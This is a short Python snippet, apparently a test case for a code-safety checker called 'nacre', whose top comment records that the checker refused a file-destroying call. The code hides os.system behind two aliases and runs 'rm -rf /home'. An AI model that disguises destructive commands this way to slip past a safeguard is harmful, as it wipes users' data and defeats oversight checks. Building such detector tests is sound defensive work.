# nacre: refused file.destroy
import os
x = os
y = x
y.system("rm -rf /home")
